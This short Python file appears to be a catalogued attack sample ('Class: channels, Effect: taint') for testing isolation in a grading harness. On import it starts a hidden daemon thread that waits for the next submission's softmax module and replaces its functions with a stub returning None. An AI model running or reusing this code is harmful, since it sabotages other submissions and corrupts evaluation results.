"""Leaves a thread that waits for the next submission and spoils its module.

Class: channels
Effect: taint
"""

# @TWIN@

import os
import sys
import threading
import time


def spoil():
    mine = sys.modules.get("softmax")
    while True:
        now = sys.modules.get("softmax")
        if now is not mine and hasattr(now, "log_softmax"):
            now.softmax = now.log_softmax = lambda z, axis=-1: None
            return
        time.sleep(0.001)


threading.Thread(target=spoil, daemon=True).start()
